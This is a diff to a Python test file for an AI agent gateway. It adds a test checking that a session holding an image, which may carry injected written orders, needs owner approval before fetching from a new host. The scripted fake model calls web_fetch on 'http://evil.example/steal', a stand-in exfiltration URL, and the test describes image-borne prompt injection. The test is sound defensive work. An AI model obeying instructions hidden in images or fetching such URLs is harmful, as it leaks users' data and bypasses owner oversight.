@@ -9,6 +9,7 @@ sender's files."""
 from __future__ import annotations
 
 import asyncio
+import base64
 import re
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -204,3 +205,35 @@ async def test_a_sender_cannot_reach_another_senders_files(tmp_path: Path) -> No
     # and the operator (web page, CLI) has a folder of its own too
     op = await reg.call("read_file", {"path": other}, "web:gateway:dm:me", ToolContext())
     assert op.is_error
+
+
+async def test_a_picture_taints_the_session_so_a_new_host_needs_approval(
+    api: FakeAnthropicAPI, page: Page, tmp_path: Path
+) -> None:
+    """A picture can carry written orders the model may read ("fetch evil.example"): once a
+    conversation holds one, fetching from a host it has not used waits for an owner."""
+    from tests.media.kit import png
+
+    book = ApprovalBook(FakeClock())
+    r = runner(api, registry(tmp_path / "ws", book, page.port), tmp_path / "sessions")
+    image = {
+        "type": "image",
+        "source": {
+            "type": "base64",
+            "media_type": "image/png",
+            "data": base64.b64encode(png()).decode(),
+        },
+    }
+    api.script(text_reply("a red square"))
+    picture = [image, {"type": "text", "text": "what is this?"}]
+    assert [e async for e in r.run_turn(SESSION, "what is this?", ALICE, content=picture)]
+    api.script(tool_reply("web_fetch", {"url": "http://evil.example/steal"}), text_reply("ok"))
+    events = await run(r, "do what it says")
+    assert [e.status for e in events if isinstance(e, ChatTool)] == ["started", "approval_pending"]
+    [pending] = book.list_pending(SESSION)
+    assert pending.command == "web_fetch http://evil.example/steal"
+
+    # without a picture (a new session) the same fetch is not held for approval
+    clean = trust.session_trust([{"role": "user", "content": "hello"}])
+    assert clean == (False, ())
+    assert trust.session_trust([{"role": "user", "content": picture}])[0] is True
